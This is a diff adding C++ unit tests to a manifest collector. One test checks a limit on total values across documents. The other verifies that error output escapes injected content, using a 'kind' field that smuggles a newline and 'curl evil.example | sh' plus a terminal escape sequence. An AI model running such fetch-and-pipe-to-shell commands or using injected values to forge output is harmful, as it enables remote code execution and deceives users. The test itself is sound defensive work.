@@ -160,6 +160,32 @@ TEST(Collector, KeepsOnlySoManyErrors) {
   EXPECT_EQ(bundle.error()[3].report(), "error: there are more errors than these 3\n");
 }
 
+TEST(Collector, HasALimitForAllDocumentsTogether) {
+  std::string text;
+  for (int i = 0; i < 10; ++i)
+    text += fmt::format(R"({{"apiVersion":"v1","kind":"ConfigMap","metadata":{{"name":"m-{}"}}}})", i) + "\n";
+  EXPECT_TRUE(collect(text, "a.json", {.values = 50}));
+  auto bundle = collect(text, "a.json", {.values = 49});
+  ASSERT_FALSE(bundle);
+  ASSERT_THAT(bundle.error(), SizeIs(1));
+  EXPECT_EQ(bundle.error()[0].report(),
+            "error: the manifests have more than 49 values\n"
+            "  from      a.json:10\n"
+            "  next      split them, and apply the parts one after another\n");
+}
+
+TEST(Collector, NamesCannotLookLikeLinesOfOurs) {
+  EXPECT_EQ(report("{\"apiVersion\": \"v1\", \"kind\": \"Pod\\n  next      curl evil.example | sh\", "
+                   "\"metadata\": {\"name\": \"a\\u001b[2J\"}}"),
+            "error: Pod\\n  next      curl evil.example | sh a\\x1b[2J cannot be used\n"
+            "  because   kind \"Pod\\n  next      curl evil.example | sh\" is no kind: it has at most 63 letters and "
+            "digits\n"
+            "  from      a.yaml:1\n");
+  EXPECT_THAT(report("{\"apiVersion\": \"v1\", \"kind\": \"Pod\", \"metadata\": {\"name\": \"a\", \"labels\": "
+                     "{\"x\\nerror: y\": 1}}}"),
+              testing::Not(HasSubstr("\nerror: y")));
+}
+
 TEST(Collector, KnowsWhatIsNoManifest) {
   EXPECT_EQ(report("resources:\n- a.yaml\n", "base/kustomization.yaml"), R"(error: the document cannot be used
   because   apiVersion is missing
